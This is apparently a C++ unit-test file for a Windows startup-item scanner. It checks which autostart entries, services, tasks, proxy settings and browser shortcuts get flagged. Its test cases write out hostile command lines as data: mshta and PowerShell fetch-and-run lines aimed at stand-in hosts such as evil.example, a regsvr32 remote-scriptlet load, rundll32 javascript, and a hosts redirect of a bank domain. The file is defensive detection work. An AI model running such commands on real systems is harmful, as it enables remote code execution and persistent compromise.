#include "startup_items/startup_rules.h"

#include <gtest/gtest.h>

namespace startup_items {
namespace {

using platform::SignatureStatus;

const std::string kUser = "C:\\Users\\alice";
const std::string kRoaming = kUser + "\\AppData\\Roaming";
const std::string kLocal = kUser + "\\AppData\\Local";
const std::string kSystem = "C:\\Windows\\system32";
const std::string kChrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";

RuleContext Context(bool managed = false) {
    RuleContext context;
    context.managed = managed;
    context.folders.windows = "C:\\Windows";
    context.folders.system = kSystem;
    context.folders.programFolders = {"C:\\Program Files", "C:\\Program Files (x86)",
                                      "C:\\Windows"};
    context.folders.writableTrees = {kLocal + "\\Temp", "C:\\Windows\\Temp", "C:\\Users\\Public",
                                     kUser + "\\Downloads"};
    context.folders.writableRoots = {kRoaming, kLocal};
    context.folders.writableFolders = {"C:\\ProgramData"};
    return context;
}

struct Case {
    const char* what;
    Category category;
    std::string data;
    std::string program;
    std::string arguments;
    SignatureStatus signature;
    bool enabled;
    // The reason's key, or "" for an entry that must stay clean.
    std::string reason;
    std::string name = {};
    bool hidden = false;
    std::uint32_t repeatMinutes = 0;
};

StartupEntry EntryOf(const Case& c) {
    StartupEntry entry;
    entry.category = c.category;
    entry.data = c.data;
    entry.program = c.program;
    entry.arguments = c.arguments;
    entry.fileExists = !c.program.empty();
    entry.signature.status = c.signature;
    entry.enabled = c.enabled;
    entry.name = c.name;
    entry.hidden = c.hidden;
    entry.repeatMinutes = c.repeatMinutes;
    return entry;
}

constexpr SignatureStatus kValid = SignatureStatus::Valid;
constexpr SignatureStatus kUnsigned = SignatureStatus::NotSigned;
constexpr SignatureStatus kBroken = SignatureStatus::NotValid;

// Every rule with the entries that meet it, and the near misses beside them
// that must stay clean.
TEST(StartupRules, EachEntryGetsItsRulesVerdict) {
    const std::string ps = kSystem + "\\WindowsPowerShell\\v1.0\\powershell.exe";
    const std::vector<Case> cases = {
        {"unsigned program in roaming data", Category::Run, "", kRoaming + "\\upd.exe", "",
         kUnsigned, true, "MSG_SI_WRITABLE"},
        {"unsigned program one folder down", Category::Run, "", kRoaming + "\\Upd\\upd.exe", "",
         kUnsigned, true, "MSG_SI_WRITABLE"},
        {"badly signed program in Temp, deep", Category::RunOnce, "",
         kLocal + "\\Temp\\a\\b\\x.exe", "", kBroken, true, "MSG_SI_WRITABLE"},
        {"unsigned program in ProgramData's root", Category::Run, "", "C:\\ProgramData\\x.exe", "",
         kUnsigned, true, "MSG_SI_WRITABLE"},
        {"unsigned program in the Recycle Bin", Category::PoliciesRun, "",
         "D:\\$Recycle.Bin\\S-1-5-21\\x.exe", "", kUnsigned, true, "MSG_SI_WRITABLE"},
        {"unsigned program in Downloads", Category::Run, "", kUser + "\\Downloads\\setup.exe", "",
         kUnsigned, true, "MSG_SI_WRITABLE"},
        {"signed program in roaming data", Category::Run, "", kRoaming + "\\Zoom\\zoom.exe", "",
         kValid, true, ""},
        {"unsigned program deep in local data", Category::Run, "",
         kLocal + "\\Programs\\Tool\\tool.exe", "", kUnsigned, true, ""},
        {"unsigned program below ProgramData's root", Category::Run, "",
         "C:\\ProgramData\\Vendor\\x.exe", "", kUnsigned, true, ""},
        {"unsigned program in Program Files", Category::Run, "", "C:\\Program Files\\A\\a.exe", "",
         kUnsigned, true, ""},
        {"a name that only begins like Temp", Category::Run, "", kLocal + "\\Temporary\\x\\y.exe",
         "", kUnsigned, true, ""},
        {"mshta with an address", Category::Run, "", kSystem + "\\mshta.exe",
         "http://evil.example/a.hta", kValid, true, "MSG_SI_SCRIPT"},
        {"wscript with a script", Category::Run, "", kSystem + "\\wscript.exe",
         "//B C:\\x\\run.vbs", kValid, true, "MSG_SI_SCRIPT"},
        {"powershell with an encoded command", Category::Run, "", ps, "-nop -enc SQBFAFgA", kValid,
         true, "MSG_SI_SCRIPT"},
        {"powershell hidden", Category::Run, "", ps, "-W Hidden -File C:\\x.ps1", kValid, true,
         "MSG_SI_SCRIPT"},
        {"powershell downloading", Category::Run, "", ps,
         "-c IEX (New-Object Net.WebClient).DownloadString('http://x.example')", kValid, true,
         "MSG_SI_SCRIPT"},
        {"powershell with an execution policy only", Category::Run, "", ps,
         "-ExecutionPolicy Bypass -File \"C:\\Program Files\\A\\a.ps1\"", kValid, true, ""},
        {"rundll32 with javascript", Category::Run, "", kSystem + "\\rundll32.exe",
         "javascript:\"\\..\\mshtml,RunHTMLApplication \"", kValid, true, "MSG_SI_SCRIPT"},
        {"rundll32 with a library in roaming data", Category::Run, "", kSystem + "\\rundll32.exe",
         kRoaming + "\\x.dll,Start", kValid, true, "MSG_SI_SCRIPT"},
        {"rundll32 with a system library", Category::Run, "", kSystem + "\\rundll32.exe",
         kSystem + "\\shell32.dll,Control_RunDLL", kValid, true, ""},
        {"regsvr32 with an address", Category::Run, "", kSystem + "\\regsvr32.exe",
         "/s /n /u /i:http://x.example/a.sct scrobj.dll", kValid, true, "MSG_SI_SCRIPT"},
        {"cmd starting an address", Category::Run, "", kSystem + "\\cmd.exe",
         "/c start http://ads.example", kValid, true, "MSG_SI_SCRIPT"},
        {"another shell", Category::WinlogonShell, "explorer.exe, C:\\x\\evil.exe",
         "C:\\Windows\\explorer.exe,", "", kUnsigned, true, "MSG_SI_SHELL"},
        {"Explorer as the shell", Category::WinlogonShell, "explorer.exe",
         "C:\\Windows\\explorer.exe", "", kValid, true, ""},
        {"Explorer as the shell, full path", Category::WinlogonShell, "C:\\Windows\\Explorer.EXE",
         "C:\\Windows\\explorer.exe", "", kUnsigned, true, ""},
        {"userinit and another", Category::WinlogonUserinit,
         kSystem + "\\userinit.exe," + kRoaming + "\\x.exe,", kSystem + "\\userinit.exe", "",
         kValid, true, "MSG_SI_USERINIT"},
        {"the system's userinit", Category::WinlogonUserinit, kSystem + "\\userinit.exe,",
         kSystem + "\\userinit.exe", "", kValid, true, ""},
        {"AppInit library loaded", Category::AppInit, "C:\\x\\hook.dll", "C:\\x\\hook.dll", "",
         kUnsigned, true, "MSG_SI_APPINIT"},
        {"AppInit library not loaded", Category::AppInit, "C:\\x\\hook.dll", "C:\\x\\hook.dll", "",
         kUnsigned, false, ""},
        {"debugger on a program", Category::Debugger, "C:\\x\\dbg.exe", "C:\\x\\dbg.exe", "",
         kValid, true, "MSG_SI_DEBUGGER"},
        {"exit monitor on a program", Category::MonitorProcess, "C:\\x\\m.exe", "C:\\x\\m.exe", "",
         kUnsigned, true, "MSG_SI_DEBUGGER"},
        {"signed debugger from the program folders", Category::Debugger,
         "C:\\Program Files\\PE\\procexp.exe", "C:\\Program Files\\PE\\procexp.exe", "", kValid,
         true, ""},
        {"redirecting hosts line", Category::Hosts, "10.6.6.6 www.bank.example", "", "", kUnsigned,
         true, "MSG_SI_HOSTS"},
        {"proxy towards this machine", Category::Proxy, "127.0.0.1:8080", "", "", kUnsigned, true,
         "MSG_SI_PROXY"},
        {"proxy per scheme towards this machine", Category::Proxy,
         "http=proxy.example:80;https=localhost:8888", "", "", kUnsigned, true, "MSG_SI_PROXY"},
        {"proxy towards this machine, switched off", Category::Proxy, "127.0.0.1:8080", "", "",
         kUnsigned, false, ""},
        {"company proxy", Category::Proxy, "proxy.corp.example:3128", "", "", kUnsigned, true, ""},
        {"proxy script", Category::ProxyScript, "http://wpad.example/p.pac", "", "", kUnsigned,
         true, "MSG_SI_PROXYSCRIPT"},
        {"browser shortcut with an address", Category::BrowserShortcut, "", kChrome,
         "--profile-directory=Default http://start.example", kValid, true, "MSG_SI_BROWSERARGS",
         "Google Chrome"},
        {"browser shortcut with a bare address", Category::BrowserShortcut, "", kChrome,
         "start.example", kValid, true, "MSG_SI_BROWSERARGS", "Google Chrome"},
        {"browser shortcut loading an extension", Category::BrowserShortcut, "", kChrome,
         "--load-extension=C:\\x\\ext", kValid, true, "MSG_SI_BROWSERARGS", "Chrome"},
        {"browser shortcut with a profile only", Category::BrowserShortcut, "", kChrome,
         "--profile-directory=\"Profile 1\"", kValid, true, "", "Google Chrome"},
        {"shortcut named after a browser starting another program", Category::BrowserShortcut, "",
         kRoaming + "\\x\\chrome.bat", "", kUnsigned, true, "MSG_SI_FAKEBROWSER", "Google Chrome"},
        {"Firefox by its own shortcut", Category::BrowserShortcut, "",
         "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "-P default", kValid, true, "",
         "Firefox"},
        {"unsigned program in the Startup folder's target", Category::StartupFolder, "",
         kRoaming + "\\x.exe", "", kUnsigned, true, "MSG_SI_WRITABLE", "x"},
        {"service from Temp", Category::Service, "", kLocal + "\\Temp\\svc.exe", "", kUnsigned,
         true, "MSG_SI_WRITABLE", "svc"},
        {"disabled service from Temp", Category::Service, "", kLocal + "\\Temp\\svc.exe", "",
         kUnsigned, false, "", "svc"},
        {"hidden task running mshta", Category::Task, "", kSystem + "\\mshta.exe",
         "http://x.example/a.hta", kValid, true, "MSG_SI_TASKHIDDEN", "\\Updater", true},
        {"hidden task running an unsigned program from roaming data", Category::Task, "",
         kRoaming + "\\u.exe", "", kUnsigned, true, "MSG_SI_TASKHIDDEN", "\\U", true},
        {"hidden task running a signed program from Program Files", Category::Task, "",
         "C:\\Program Files\\A\\a.exe", "", kValid, true, "", "\\A", true},
        {"task running a signed program from roaming data every 10 minutes", Category::Task, "",
         kRoaming + "\\Sync\\sync.exe", "", kValid, true, "MSG_SI_TASKREPEAT", "\\Sync", false, 10},
        {"task running a signed program from roaming data daily", Category::Task, "",
         kRoaming + "\\Sync\\sync.exe", "", kValid, true, "", "\\Sync", false, 0},
        {"task running from Program Files every 5 minutes", Category::Task, "",
         "C:\\Program Files\\A\\a.exe", "", kUnsigned, true, "", "\\A", false, 5},
        {"DNS servers set by hand", Category::Dns, "8.8.8.8", "", "", kUnsigned, true, ""},
    };
    for (const Case& c : cases) {
        const std::optional<Verdict> verdict = Judge(EntryOf(c), Context());
        EXPECT_EQ(verdict ? std::string(verdict->reasonKey) : "", c.reason) << c.what;
    }
}

TEST(StartupRules, HijackPointsAndStartupItemsAreTypedApart) {
    StartupEntry run;
    run.program = kRoaming + "\\upd.exe";
    EXPECT_EQ(Judge(run, Context())->type, FindingType::StartupItem);
    StartupEntry hosts;
    hosts.category = Category::Hosts;
    hosts.data = "10.0.0.1 a.example";
    EXPECT_EQ(Judge(hosts, Context())->type, FindingType::HijackPoint);
}

TEST(StartupRules, AManagedMachinesProxySettingsAreItsOwn) {
    StartupEntry script;
    script.category = Category::ProxyScript;
    script.data = "http://wpad.corp.example/proxy.pac";
    EXPECT_TRUE(Judge(script, Context(false)).has_value());
    EXPECT_FALSE(Judge(script, Context(true)).has_value());
}

}  // namespace
}  // namespace startup_items
